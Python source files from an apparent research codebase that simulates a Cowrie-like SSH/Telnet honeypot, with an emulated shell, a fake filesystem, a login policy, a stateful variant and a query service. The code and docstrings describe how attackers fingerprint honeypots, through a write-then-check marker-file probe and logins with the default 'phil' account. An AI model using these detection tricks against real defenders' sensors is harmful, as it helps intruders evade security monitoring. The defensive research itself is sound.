    return CommandResult(output="")


def cmd_rm(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    flags = [arg for arg in argv[1:] if arg.startswith("-")]
    recursive = any("r" in flag or "R" in flag for flag in flags)
    targets = [arg for arg in argv[1:] if not arg.startswith("-")]
    success = True
    for target in targets:
        for expanded in _expand_glob(ctx, target):
            resolved = ctx.resolve(expanded)
            if ctx.fs.is_dir(resolved):
                if recursive:
                    for victim in ctx.fs.delete_tree(resolved):
                        ctx.record_event(victim, FileOp.DELETE, None)
                else:
                    success = False
            elif not ctx.delete_file(resolved):
                success = False
    return CommandResult(output="", success=success)


def cmd_chmod(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    targets = [
        arg
        for arg in argv[1:]
        if not arg.startswith("-") and not _looks_like_mode(arg)
    ]
    success = True
    for target in targets:
        for expanded in _expand_glob(ctx, target):
            if not ctx.fs.chmod_exec(ctx.resolve(expanded)):
                success = False
    return CommandResult(output="", success=success)


def _looks_like_mode(token: str) -> bool:
    if token.isdigit():
        return True
    return all(char in "ugoarwxXst+-=," for char in token) and any(
        char in "+-=" for char in token
    )


def cmd_mv(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    args = [arg for arg in argv[1:] if not arg.startswith("-")]
    if len(args) < 2:
        return CommandResult(output="mv: missing file operand\n", success=False)
    source, destination = ctx.resolve(args[0]), ctx.resolve(args[1])
    content = ctx.fs.read(source)
    if content is None:
        return CommandResult(
            output=f"mv: cannot stat '{args[0]}': No such file or directory\n",
            success=False,
        )
    if ctx.fs.is_dir(destination):
        destination = destination.rstrip("/") + "/" + source.rsplit("/", 1)[-1]
    ctx.write_file(destination, content)
    ctx.delete_file(source)
    return CommandResult(output="")


def cmd_cp(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    args = [arg for arg in argv[1:] if not arg.startswith("-")]
    if len(args) < 2:
        return CommandResult(output="cp: missing file operand\n", success=False)
    source, destination = ctx.resolve(args[0]), ctx.resolve(args[1])
    content = ctx.fs.read(source)
    if content is None:
        return CommandResult(
            output=f"cp: cannot stat '{args[0]}': No such file or directory\n",
            success=False,
        )
    if ctx.fs.is_dir(destination):
        destination = destination.rstrip("/") + "/" + source.rsplit("/", 1)[-1]
    ctx.write_file(destination, content)
    return CommandResult(output="")


def cmd_touch(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    targets = [arg for arg in argv[1:] if not arg.startswith("-")]
    for target in targets:
        resolved = ctx.resolve(target)
        if not ctx.fs.is_file(resolved):
            ctx.write_file(resolved, b"")
    return CommandResult(output="")


def cmd_dd(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    options = dict(
        arg.split("=", 1) for arg in argv[1:] if "=" in arg and not arg.startswith("-")
    )
    block_size = options.get("bs", "512")
    source = options.get("if")
    destination = options.get("of")
    content = b"\x00" * 64
    if source and "urandom" in source or source == "/dev/random":
        import hashlib

        content = hashlib.sha256(
            f"{ctx.entropy}:{source}:{destination}".encode("utf-8")
        ).digest()
    elif source:
        read = ctx.fs.read(ctx.resolve(source))
        if read is not None:
            content = read
    elif stdin:
        content = stdin.encode("utf-8")
    if destination:
        ctx.write_file(destination, content)
        return CommandResult(output="1+0 records in\n1+0 records out\n")
    preview = content[: int(block_size) if block_size.isdigit() else 512]
    return CommandResult(
        output=preview.decode("utf-8", "replace") + "\n1+0 records in\n1+0 records out\n"
    )


def cmd_sed(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    in_place = any(arg.startswith("-i") for arg in argv[1:])
    file_args = [
        arg for arg in argv[1:] if not arg.startswith("-") and "/" in arg and "s/" != arg[:2]
    ]
    if in_place and file_args:
        resolved = ctx.resolve(file_args[-1])
        content = ctx.fs.read(resolved)
        if content is not None:
            ctx.write_file(resolved, content)
    return CommandResult(output=stdin)


def cmd_chattr(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output="")


def cmd_ln(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output="")


def cmd_tar(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output="")


def cmd_gunzip(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output="")
