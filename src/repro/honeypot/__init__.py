"""Cowrie-like medium-interaction SSH/Telnet honeypot."""

from repro.honeypot.auth import DEFAULT_POLICY, CredentialPolicy
from repro.honeypot.cowrie import MAX_LINES_PER_SESSION, CowrieHoneypot
from repro.honeypot.fs import FakeFilesystem, FileNode
from repro.honeypot.session import (
    CommandRecord,
    ConnectionIntent,
    FileEvent,
    FileOp,
    LoginAttempt,
    Protocol,
    SessionRecord,
)
from repro.honeypot.stateful import (
    StatefulCowrieHoneypot,
    consistency_probe_pair,
    probe_detects_honeypot,
)
from repro.honeypot.uri import extract_uris

__all__ = [
    "StatefulCowrieHoneypot",
    "consistency_probe_pair",
    "probe_detects_honeypot",
    "DEFAULT_POLICY",
    "CredentialPolicy",
    "CowrieHoneypot",
    "MAX_LINES_PER_SESSION",
    "FakeFilesystem",
    "FileNode",
    "CommandRecord",
    "ConnectionIntent",
    "FileEvent",
    "FileOp",
    "LoginAttempt",
    "Protocol",
    "SessionRecord",
    "extract_uris",
]
