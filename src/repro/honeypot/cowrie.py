"""The medium-interaction honeypot itself.

One :class:`CowrieHoneypot` models one deployed sensor: it accepts a
:class:`~repro.honeypot.session.ConnectionIntent` (what a client sends)
and produces the :class:`~repro.honeypot.session.SessionRecord` the
collector stores.  Sessions are stateless — every connection gets a
fresh emulated filesystem, exactly like the deployed Cowrie (and exactly
the limitation the paper's "random file consistency check" attackers
probe for).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.honeypot.auth import DEFAULT_POLICY, CredentialPolicy
from repro.honeypot.session import (
    ConnectionIntent,
    LoginAttempt,
    Protocol,
    SessionRecord,
)
from repro.honeypot.shell.context import HostProfile, ShellContext
from repro.honeypot.shell.engine import ShellEngine
from repro.util.hashing import short_hash

#: Hard cap on shell input lines per session (the real honeypot is
#: bounded by its 3-minute timeout; curl-proxy abuse sessions send ~100).
MAX_LINES_PER_SESSION = 300

#: The honeypot-side idle timeout (paper section 3.1: three minutes).
#: Canonical definition — ``SimulationConfig.session_timeout_s`` derives
#: its default from this constant so the two cannot drift.
DEFAULT_SESSION_TIMEOUT_S = 180.0


@dataclass
class CowrieHoneypot:
    """One sensor in the honeynet."""

    honeypot_id: str
    ip: str
    country: str = "ZZ"
    asn: int = 0
    ssh_port: int = 22
    telnet_port: int = 23
    policy: CredentialPolicy = field(default_factory=lambda: DEFAULT_POLICY)
    profile: HostProfile = field(default_factory=HostProfile)
    timeout_s: float = DEFAULT_SESSION_TIMEOUT_S
    _counter: int = field(default=0, repr=False)

    def _make_context(
        self, intent: ConnectionIntent, user: str, session_id: str
    ) -> ShellContext:
        """Fresh per-session shell state (Cowrie is stateless)."""
        return ShellContext(
            user=user,
            profile=self.profile,
            remote_files=intent.remote_file_map(),
            entropy=session_id,
        )

    def handle(self, intent: ConnectionIntent, when: float) -> SessionRecord:
        """Process one client connection and return its session record."""
        self._counter += 1
        session_id = short_hash(
            f"{self.honeypot_id}:{intent.client_ip}:{when}:{self._counter}", 16
        )
        logins: list[LoginAttempt] = []
        logged_in_user: str | None = None
        for username, password in intent.credentials:
            accepted = self.policy.accepts(username, password)
            logins.append(LoginAttempt(username, password, accepted))
            if accepted:
                logged_in_user = username
                break

        commands = []
        uris: list[str] = []
        file_events = []
        if logged_in_user is not None and intent.command_lines:
            context = self._make_context(intent, logged_in_user, session_id)
            engine = ShellEngine(context)
            for line in intent.command_lines[:MAX_LINES_PER_SESSION]:
                commands.append(engine.run_line(line))
                if context.exited:
                    break
            uris = context.uris
            file_events = context.file_events

        timed_out = intent.hold_open or intent.duration_s >= self.timeout_s
        duration = self.timeout_s if timed_out else intent.duration_s
        port = (
            self.ssh_port if intent.protocol == Protocol.SSH else self.telnet_port
        )
        return SessionRecord(
            session_id=session_id,
            honeypot_id=self.honeypot_id,
            honeypot_ip=self.ip,
            honeypot_port=port,
            protocol=intent.protocol,
            client_ip=intent.client_ip,
            client_port=intent.client_port,
            start=when,
            end=when + duration,
            ssh_version=(
                intent.ssh_version if intent.protocol == Protocol.SSH else None
            ),
            logins=logins,
            commands=commands,
            uris=uris,
            file_events=file_events,
            timed_out=timed_out,
            bot_label=intent.bot_label,
        )
