"""Authentication policy of the honeynet's Cowrie deployment.

Paper section 3.2: password authentication as ``root`` with *any*
password except the literal string ``"root"`` is accepted; public keys
are not supported; Telnet uses the same rule.  Additionally (section 8),
the deployed Cowrie version ships the well-known default account
``phil`` (which superseded ``richard`` in 2020), which attackers abuse
to fingerprint Cowrie — so ``phil`` logins succeed while ``richard``
logins fail on this version.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class CredentialPolicy:
    """Decides which (username, password) pairs are accepted."""

    root_rejected_passwords: frozenset[str] = frozenset({"root"})
    default_accounts: frozenset[str] = frozenset({"phil"})
    legacy_accounts: frozenset[str] = frozenset({"richard"})

    def accepts(self, username: str, password: str) -> bool:
        """Return whether a login with these credentials succeeds."""
        if username == "root":
            return password not in self.root_rejected_passwords
        if username in self.default_accounts:
            return True
        return False

    def is_fingerprint_username(self, username: str) -> bool:
        """Whether the username is a Cowrie default used for honeypot
        fingerprinting (current or legacy)."""
        return username in self.default_accounts or username in self.legacy_accounts


#: The policy every honeypot in the fleet runs.
DEFAULT_POLICY = CredentialPolicy()
