"""The fake filesystem behind the emulated shell.

Cowrie presents a plausible Unix filesystem but persists nothing across
sessions; each session gets a fresh copy (the paper notes attackers
exploit exactly this statelessness, e.g. by writing a file and checking
for it in a later session).  Files carry content so the honeypot can
hash whatever the intruder writes or downloads.
"""

from __future__ import annotations

import posixpath
from dataclasses import dataclass

from repro.util.hashing import sha256_hex


@dataclass
class FileNode:
    """One regular file."""

    content: bytes = b""
    executable: bool = False

    @property
    def sha256(self) -> str:
        return sha256_hex(self.content)

    @property
    def size(self) -> int:
        return len(self.content)


#: Files every fresh session sees (a representative Cowrie skeleton).
BASELINE_FILES: dict[str, bytes] = {
    "/etc/passwd": b"root:x:0:0:root:/root:/bin/bash\nphil:x:1000:1000::/home/phil:/bin/bash\n",
    "/etc/shadow": b"root:$6$deadbeef$:18000:0:99999:7:::\n",
    "/etc/hosts": b"127.0.0.1 localhost\n",
    "/etc/hosts.deny": b"",
    "/etc/issue": b"Debian GNU/Linux 10 \\n \\l\n",
    "/proc/cpuinfo": (
        b"processor\t: 0\nmodel name\t: Intel(R) Xeon(R) CPU E5-2650 v4 @ 2.20GHz\n"
        b"processor\t: 1\nmodel name\t: Intel(R) Xeon(R) CPU E5-2650 v4 @ 2.20GHz\n"
    ),
    "/proc/meminfo": b"MemTotal:        2048000 kB\nMemFree:          812000 kB\n",
    "/proc/self/exe": b"\x7fELF\x02\x01\x01busybox-emulated",
    "/bin/busybox": b"\x7fELF\x02\x01\x01busybox-emulated",
    "/var/spool/cron/root": b"",
    "/root/.ssh/authorized_keys": b"",
}

#: Directories that exist in the skeleton.
BASELINE_DIRS = (
    "/", "/bin", "/sbin", "/etc", "/usr", "/usr/bin", "/var", "/var/run",
    "/var/spool", "/var/spool/cron", "/var/tmp", "/tmp", "/mnt", "/proc",
    "/proc/self", "/root", "/root/.ssh", "/home", "/home/phil", "/dev",
)


class FakeFilesystem:
    """An in-memory Unix-ish filesystem with the Cowrie skeleton."""

    def __init__(self) -> None:
        self._files: dict[str, FileNode] = {
            path: FileNode(content=content, executable=path.startswith("/bin"))
            for path, content in BASELINE_FILES.items()
        }
        self._dirs: set[str] = set(BASELINE_DIRS)

    @staticmethod
    def normalize(path: str, cwd: str = "/") -> str:
        """Resolve a possibly relative path against ``cwd``."""
        if path.startswith("~"):
            path = "/root" + path[1:]
        if not path.startswith("/"):
            path = posixpath.join(cwd, path)
        normalized = posixpath.normpath(path)
        return normalized if normalized.startswith("/") else "/" + normalized

    def exists(self, path: str) -> bool:
        return path in self._files or path in self._dirs

    def is_file(self, path: str) -> bool:
        return path in self._files

    def is_dir(self, path: str) -> bool:
        return path in self._dirs

    def read(self, path: str) -> bytes | None:
        node = self._files.get(path)
        return None if node is None else node.content

    def get(self, path: str) -> FileNode | None:
        return self._files.get(path)

    def write(self, path: str, content: bytes, append: bool = False) -> tuple[FileNode, bool]:
        """Write a file; returns ``(node, created)``."""
        parent = posixpath.dirname(path) or "/"
        self.mkdirs(parent)
        existing = self._files.get(path)
        if existing is None:
            node = FileNode(content=content)
            self._files[path] = node
            return node, True
        if append:
            existing.content += content
        else:
            existing.content = content
        return existing, False

    def delete(self, path: str) -> bool:
        """Remove a file; returns whether it existed."""
        return self._files.pop(path, None) is not None

    def delete_tree(self, path: str) -> list[str]:
        """Remove a directory tree (``rm -rf``); returns deleted files."""
        prefix = path.rstrip("/") + "/"
        doomed = [p for p in self._files if p == path or p.startswith(prefix)]
        for victim in doomed:
            del self._files[victim]
        self._dirs = {
            d for d in self._dirs if not (d != "/" and (d == path or d.startswith(prefix)))
        }
        return doomed

    def mkdirs(self, path: str) -> None:
        """Create a directory and its ancestors."""
        cursor = path
        while cursor and cursor != "/":
            self._dirs.add(cursor)
            cursor = posixpath.dirname(cursor)
        self._dirs.add("/")

    def chmod_exec(self, path: str) -> bool:
        node = self._files.get(path)
        if node is None:
            return False
        node.executable = True
        return True

    def listdir(self, path: str) -> list[str]:
        """Entries directly under a directory."""
        prefix = path.rstrip("/") + "/" if path != "/" else "/"
        names: set[str] = set()
        for candidate in list(self._files) + list(self._dirs):
            if candidate != path and candidate.startswith(prefix):
                remainder = candidate[len(prefix):]
                names.add(remainder.split("/", 1)[0])
        return sorted(names)
