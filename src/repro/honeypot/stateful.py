"""A stateful honeypot — the paper's first proposed improvement.

Section 10 ("Call for Better Honeypots") argues that persistent storage
would let honeypots survive consistency probes: attackers who write a
random file and check for it in a later session (the paper's fourth
hypothesised motive for no-exec file writes, and the behaviour of bots
like ``lenni_0451`` / ``bbox_rand_exec``) detect stock Cowrie because
every session starts from a pristine filesystem.

:class:`StatefulCowrieHoneypot` keeps one persistent filesystem per
sensor (optionally per client IP), so the marker written in one session
is still there in the next — at the cost of cross-contamination
between attackers, which is why the class also supports periodic
resets (a real deployment would snapshot/rollback on a schedule).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.honeypot.cowrie import CowrieHoneypot
from repro.honeypot.fs import FakeFilesystem
from repro.honeypot.session import ConnectionIntent
from repro.honeypot.shell.context import ShellContext


@dataclass
class StatefulCowrieHoneypot(CowrieHoneypot):
    """Cowrie with a persistent emulated filesystem.

    Attributes:
        per_client: isolate persistent state per client IP (prevents
            cross-attacker contamination at the cost of realism — a
            real machine has one filesystem).
        reset_after_s: wall-clock seconds after which the persistent
            state is rolled back to pristine (0 disables resets).
    """

    per_client: bool = False
    reset_after_s: float = 0.0
    _filesystems: dict[str, FakeFilesystem] = field(
        default_factory=dict, repr=False
    )
    _last_reset: dict[str, float] = field(default_factory=dict, repr=False)
    _now: float = field(default=0.0, repr=False)

    def _state_key(self, intent: ConnectionIntent) -> str:
        return intent.client_ip if self.per_client else "*"

    def _filesystem_for(self, intent: ConnectionIntent, when: float) -> FakeFilesystem:
        key = self._state_key(intent)
        fs = self._filesystems.get(key)
        last = self._last_reset.get(key, when)
        expired = (
            self.reset_after_s > 0 and when - last >= self.reset_after_s
        )
        if fs is None or expired:
            fs = FakeFilesystem()
            self._filesystems[key] = fs
            self._last_reset[key] = when
        return fs

    def handle(self, intent: ConnectionIntent, when: float):
        self._now = when
        return super().handle(intent, when)

    def _make_context(
        self, intent: ConnectionIntent, user: str, session_id: str
    ) -> ShellContext:
        return ShellContext(
            fs=self._filesystem_for(intent, self._now),
            user=user,
            profile=self.profile,
            remote_files=intent.remote_file_map(),
            entropy=session_id,
        )


def consistency_probe_pair(
    marker: str, directory: str = "/var/tmp"
) -> tuple[ConnectionIntent, ConnectionIntent]:
    """The two-session probe attackers use to detect stateless honeypots.

    Session one writes a random marker file; session two (later, from
    the same actor) checks whether it survived.  On stock Cowrie the
    check fails and the actor concludes "honeypot".
    """
    path = f"{directory}/.{marker}"
    write = ConnectionIntent(
        client_ip="198.51.100.77",
        credentials=(("root", "admin"),),
        command_lines=(f"echo {marker} > {path}",),
    )
    check = ConnectionIntent(
        client_ip="198.51.100.77",
        credentials=(("root", "admin"),),
        command_lines=(f"cat {path}",),
    )
    return write, check


def probe_detects_honeypot(honeypot: CowrieHoneypot, marker: str, when: float) -> bool:
    """Run a write-then-check probe; True if the honeypot is exposed.

    The check succeeds only if the marker file still *contains* the
    marker — an error message that merely echoes the path back does not
    fool the attacker.
    """
    write, check = consistency_probe_pair(marker)
    honeypot.handle(write, when)
    record = honeypot.handle(check, when + 3600.0)
    output = record.commands[0].output if record.commands else ""
    survived = any(line.strip() == marker for line in output.splitlines())
    return not survived
