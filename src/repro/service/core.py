"""The query/status service core: snapshots in, contractual responses out.

One :class:`QueryService` serves the newest published
:class:`~repro.service.snapshot.Snapshot` (and, when an indexed store
is attached, arbitrary filtered queries against it) behind the full
overload-protection ladder, every rung on the *virtual* clock:

1. **validation** — malformed queries (unknown kind, unknown filter
   column) are rejected before they can touch anything;
2. **per-client token buckets**
   (:class:`repro.overload.tokenbucket.ClientRateLimiter`) — the
   status endpoint is exempt, so health stays observable while a
   client is clipped;
3. **bounded request queue → admission gate** — queue depth maps to
   the stream engine's backpressure levels: ``HIGH`` rejects
   low-priority queries, ``CRITICAL`` serves the status endpoint only,
   a full queue rejects outright;
4. **per-request deadlines with cancellation** — a slow-loris stall
   that would overrun the deadline cancels the in-flight task and
   rejects with ``deadline``;
5. **service↔store circuit breaker**
   (:class:`repro.stream.breaker.CircuitBreaker`, seeded probe
   schedule) — store failures open it and the service degrades to the
   last-good snapshot, marked ``stale`` with the version served; never
   a 500 while any snapshot exists.

The response contract (pinned by ``tests/test_service.py``): every
request resolves to exactly one of ``ok``, ``rejected(reason)`` or
``stale(version)``.  All ``service.*`` telemetry is merge-only
(engine-class): the service only exists when attached, so its counters
are excluded from the comparable view.
"""

from __future__ import annotations

import asyncio
from dataclasses import dataclass, field
from typing import Mapping

from repro import telemetry
from repro.faults.service import INERT_REQUEST_PLAN, RequestFaultPlan
from repro.overload.tokenbucket import ClientRateLimiter
from repro.service.cache import QueryCache, query_fingerprint
from repro.service.snapshot import Snapshot, SnapshotPublisher
from repro.store.base import INDEX_COLUMNS, StoreError
from repro.stream.breaker import CLOSED, CircuitBreaker
from repro.stream.queues import (
    LEVEL_CRITICAL,
    LEVEL_HIGH,
    BoundedStreamQueue,
)
from repro.util.rng import RngTree

#: Request priorities (the admission gate's shedding order).
PRIORITY_STATUS = "status"
PRIORITY_HIGH = "high"
PRIORITY_LOW = "low"

#: Query kinds the service understands.
KIND_STATUS = "status"
KIND_AGGREGATE = "aggregate"
KIND_COUNT = "count"
KIND_COUNT_BY = "count_by"
KIND_DISTINCT = "distinct"
KINDS = (KIND_STATUS, KIND_AGGREGATE, KIND_COUNT, KIND_COUNT_BY, KIND_DISTINCT)

#: Columns ``count_by`` / ``distinct`` may group on (mirrors the store).
GROUPABLE = INDEX_COLUMNS + ("session_id", "source")

#: Response outcomes — the whole contract.
OUTCOME_OK = "ok"
OUTCOME_REJECTED = "rejected"
OUTCOME_STALE = "stale"
OUTCOMES = (OUTCOME_OK, OUTCOME_REJECTED, OUTCOME_STALE)


@dataclass(frozen=True)
class ServicePolicy:
    """Every knob of the overload ladder, in one frozen value.

    A load test is a pure function of ``(seed, config, policy)``; the
    policy is this object plus the :class:`ServiceFaults` the load
    model drives, so ``repr()`` of both pins the run.
    """

    cache_capacity: int = 256
    queue_capacity: int = 64
    high_watermark: int = 48
    rate_per_s: float = 50.0
    burst: float = 20.0
    deadline_s: float = 2.0
    tick_s: float = 0.05
    breaker_failure_threshold: int = 3
    breaker_recovery_s: float = 4.0
    breaker_max_backoff_s: float = 64.0

    @classmethod
    def from_name(cls, name: str) -> "ServicePolicy":
        """``default`` (production-shaped) or ``strict`` (tiny budgets,
        the preset the overload tests clip against)."""
        presets = {
            "default": cls,
            "strict": lambda: cls(
                cache_capacity=32,
                queue_capacity=8,
                high_watermark=6,
                rate_per_s=2.0,
                burst=4.0,
                deadline_s=2.0,
            ),
        }
        try:
            return presets[name]()
        except KeyError:
            known = ", ".join(sorted(presets))
            raise ValueError(
                f"unknown service policy {name!r} (known: {known})"
            ) from None


@dataclass(frozen=True)
class Request:
    """One client query entering the ladder."""

    client_id: str
    kind: str
    params: Mapping[str, object] = field(default_factory=dict)
    priority: str = PRIORITY_LOW
    #: Per-request deadline override (virtual seconds), or None.
    deadline_s: float | None = None


@dataclass(frozen=True)
class Response:
    """The contractual reply: ``ok``, ``rejected(reason)`` or
    ``stale(version)`` — nothing else ever leaves the service."""

    outcome: str
    payload: Mapping | list | None = None
    reason: str | None = None
    version: int | None = None
    stale: bool = False
    #: Cache attribution for store-backed answers (hit/miss/coalesced).
    cache: str | None = None

    def as_dict(self) -> dict:
        return {
            "outcome": self.outcome,
            "payload": self.payload,
            "reason": self.reason,
            "version": self.version,
            "stale": self.stale,
            "cache": self.cache,
        }


class QueryService:
    """One service instance over a publisher (live) or a store (at rest).

    The service is a pure *reader*: it never mutates the collector, the
    publisher or the store, which is what makes attaching it
    digest-neutral by construction — the differential suite then proves
    it byte for byte.
    """

    def __init__(
        self,
        *,
        publisher: SnapshotPublisher | None = None,
        snapshot: Snapshot | None = None,
        store=None,
        policy: ServicePolicy | None = None,
        seed: int = 0,
    ) -> None:
        if publisher is None and snapshot is None and store is None:
            raise ValueError(
                "a QueryService needs a publisher, a snapshot or a store"
            )
        self.policy = policy if policy is not None else ServicePolicy()
        self.publisher = publisher
        self._snapshot = snapshot
        self.store = store
        if self._snapshot is None and publisher is None and store is not None:
            self._snapshot = Snapshot.from_store(store)
        tree = RngTree(seed).child("service")
        self.limiter = ClientRateLimiter(
            rate_per_s=self.policy.rate_per_s, burst=self.policy.burst
        )
        self.queue = BoundedStreamQueue(
            name="service-requests",
            capacity=self.policy.queue_capacity,
            high_watermark=self.policy.high_watermark,
        )
        self.breaker = CircuitBreaker(
            stage="store",
            tree=tree.child("breaker"),
            failure_threshold=self.policy.breaker_failure_threshold,
            recovery_s=self.policy.breaker_recovery_s,
            max_backoff_s=self.policy.breaker_max_backoff_s,
        )
        self.cache = QueryCache(self.policy.cache_capacity)
        self._now = 0.0
        self._event = 0
        self.requests = 0
        self.served = 0
        self.stale_served = 0
        self.deadline_cancelled = 0
        self.disconnects = 0
        self.store_errors = 0
        self.rejected: dict[str, int] = {}

    # ------------------------------------------------------------------
    # virtual clock
    # ------------------------------------------------------------------
    @property
    def now(self) -> float:
        return self._now

    def advance(self, dt: float) -> None:
        """Advance the virtual clock (the load model's per-tick step)."""
        self._now += dt

    # ------------------------------------------------------------------
    # current state
    # ------------------------------------------------------------------
    def current_snapshot(self) -> Snapshot | None:
        if self.publisher is not None and self.publisher.latest is not None:
            return self.publisher.latest
        return self._snapshot

    def health(self) -> dict:
        """The service-side counters the status endpoint reports."""
        return {
            "requests": self.requests,
            "served": self.served,
            "stale_served": self.stale_served,
            "rejected": dict(sorted(self.rejected.items())),
            "deadline_cancelled": self.deadline_cancelled,
            "disconnects": self.disconnects,
            "store_errors": self.store_errors,
            "breaker": {
                "state": self.breaker.state,
                "trips": self.breaker.trips,
            },
            "cache": {
                "hits": self.cache.hits,
                "misses": self.cache.misses,
                "coalesced": self.cache.coalesced,
                "hit_ratio": round(self.cache.hit_ratio, 4),
            },
            "rate_limiter": {
                "allowed": self.limiter.allowed,
                "limited": self.limiter.limited,
            },
            "queue": {
                "peak_depth": self.queue.peak_depth,
                "pushed": self.queue.pushed,
            },
        }

    # ------------------------------------------------------------------
    # the ladder
    # ------------------------------------------------------------------
    def _reject(self, reason: str) -> Response:
        self.rejected[reason] = self.rejected.get(reason, 0) + 1
        telemetry.count(f"service.rejected.{reason}")
        return Response(outcome=OUTCOME_REJECTED, reason=reason)

    def _validate(self, request: Request) -> str | None:
        """The malformed-query gate; returns a reject reason or None."""
        if request.kind not in KINDS:
            return "malformed"
        params = dict(request.params)
        by = params.pop("by", None)
        if request.kind in (KIND_COUNT_BY, KIND_DISTINCT):
            if by not in GROUPABLE:
                return "malformed"
        elif by is not None:
            return "malformed"
        for name in params:
            if name not in INDEX_COLUMNS:
                return "malformed"
        return None

    async def handle(
        self,
        request: Request,
        *,
        plan: RequestFaultPlan = INERT_REQUEST_PLAN,
        store_error: bool = False,
    ) -> Response:
        """Run one request down the ladder to a contractual response.

        ``plan`` carries the seeded client faults the load model
        compiled for this request; ``store_error`` injects one failing
        store read (the breaker-open scenario).  Both default inert —
        the real frontend calls with defaults.
        """
        self._event += 1
        self._now += self.policy.tick_s
        started = self._now
        self.requests += 1
        telemetry.count("service.requests")
        if plan.disconnect:
            # The client vanishes before reading; the response below is
            # still formed (the *write* is what fails) and the ledger
            # records the outcome with the disconnect flag.
            self.disconnects += 1
            telemetry.count("service.disconnects")
        try:
            reason = self._validate(request)
            if reason is not None:
                return self._reject(reason)
            if request.priority != PRIORITY_STATUS and not self.limiter.allow(
                request.client_id, self._now
            ):
                return self._reject("rate-limited")
            if self.queue.full:
                return self._reject("queue-full")
            self.queue.push(request)
            try:
                level = self.queue.level()
                if level == LEVEL_CRITICAL and request.kind != KIND_STATUS:
                    return self._reject("critical-load")
                if level == LEVEL_HIGH and request.priority == PRIORITY_LOW:
                    return self._reject("load-shed")
                deadline = (
                    request.deadline_s
                    if request.deadline_s is not None
                    else self.policy.deadline_s
                )
                work = asyncio.ensure_future(
                    self._answer(request, plan, store_error)
                )
                if plan.stall_s > deadline:
                    # The stall's virtual duration is known up front, so
                    # the overrun verdict is deterministic: cancel the
                    # in-flight task and reject.
                    work.cancel()
                    try:
                        await work
                    except asyncio.CancelledError:
                        pass
                    self.deadline_cancelled += 1
                    telemetry.count("service.deadline_cancelled")
                    return self._reject("deadline")
                response = await work
                if response.outcome == OUTCOME_OK:
                    self.served += 1
                    telemetry.count("service.served")
                return response
            finally:
                self.queue.pop()
        finally:
            telemetry.observe(
                "service.latency_s",
                self._now - started,
                telemetry.BACKOFF_BOUNDS,
            )

    # ------------------------------------------------------------------
    # answering
    # ------------------------------------------------------------------
    async def _answer(
        self, request: Request, plan: RequestFaultPlan, store_error: bool
    ) -> Response:
        if plan.stall_s:
            self._now += plan.stall_s
            await asyncio.sleep(0)  # a real suspension point to cancel
        snapshot = self.current_snapshot()
        if request.kind == KIND_STATUS:
            payload = {
                "snapshot": (
                    snapshot.status_payload() if snapshot is not None else None
                ),
                "service": self.health(),
            }
            return Response(
                outcome=OUTCOME_OK,
                payload=payload,
                version=snapshot.version if snapshot is not None else 0,
            )
        if snapshot is None:
            return self._reject("no-snapshot")
        if request.kind == KIND_AGGREGATE:
            return Response(
                outcome=OUTCOME_OK,
                payload=snapshot.aggregate_payload(),
                version=snapshot.version,
            )
        if self.store is None:
            payload = self._from_snapshot(request, snapshot)
            if payload is None:
                return self._reject("unsupported")
            return Response(
                outcome=OUTCOME_OK, payload=payload, version=snapshot.version
            )
        now = self._now
        if not self.breaker.allow(now, snapshot.day_ordinal, self._event):
            return self._stale(request, snapshot, "breaker-open")
        key = (
            snapshot.version,
            query_fingerprint(request.kind, dict(request.params)),
        )

        async def loader():
            await asyncio.sleep(0)  # let identical queries coalesce
            if store_error:
                raise StoreError(
                    "injected store fault", path=None, reason="injected"
                )
            return self._store_query(request)

        try:
            value, served_from = await self.cache.get_or_load(key, loader)
        except StoreError as error:
            self.store_errors += 1
            telemetry.count("service.store.errors")
            self.breaker.record_failure(
                now,
                snapshot.day_ordinal,
                self._event,
                reason=error.reason or "store-error",
            )
            return self._stale(request, snapshot, "store-error")
        if self.breaker.state != CLOSED:
            self.breaker.record_success(now, snapshot.day_ordinal, self._event)
        return Response(
            outcome=OUTCOME_OK,
            payload=value,
            version=snapshot.version,
            cache=served_from,
        )

    def _stale(
        self, request: Request, snapshot: Snapshot, reason: str
    ) -> Response:
        """Degrade to the last-good snapshot, marked stale — the
        never-a-500 rung at the bottom of the ladder."""
        payload = self._from_snapshot(request, snapshot)
        self.stale_served += 1
        telemetry.count("service.stale_served")
        return Response(
            outcome=OUTCOME_STALE,
            payload=payload,
            reason=reason,
            version=snapshot.version,
            stale=True,
        )

    def _from_snapshot(
        self, request: Request, snapshot: Snapshot
    ) -> dict | None:
        """Best-effort answer from the snapshot's precomputed aggregates."""
        params = dict(request.params)
        by = params.pop("by", None)
        if request.kind == KIND_COUNT:
            if not params:
                return {"count": snapshot.sessions}
            if set(params) == {"day"}:
                return {"count": snapshot.by_day.get(str(params["day"]), 0)}
            if set(params) == {"rule_label"}:
                return {
                    "count": snapshot.by_label.get(str(params["rule_label"]), 0)
                }
            return None
        if request.kind == KIND_COUNT_BY and not params:
            if by == "day":
                return dict(snapshot.by_day)
            if by == "rule_label":
                return dict(snapshot.by_label)
        return None

    def _store_query(self, request: Request):
        """The store round trip behind the cache (validated upstream)."""
        telemetry.count("service.store.queries")
        params = dict(request.params)
        by = params.pop("by", None)
        if request.kind == KIND_COUNT:
            return {"count": self.store.count(**params)}
        if request.kind == KIND_COUNT_BY:
            return self.store.count_by(by, **params)
        return self.store.distinct(by, **params)
