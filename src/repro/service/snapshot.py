"""Versioned immutable snapshots: what the query service serves.

The stream engine publishes one :class:`Snapshot` per dirty day
boundary; the service answers every request against the newest one.  A
snapshot is immutable and versioned, so a response can name exactly
which state it describes (``version``), a stale-serving breaker can
say *how* stale (the version it fell back to), and the read-through
cache can key entries on ``(snapshot_version, query_fingerprint)``
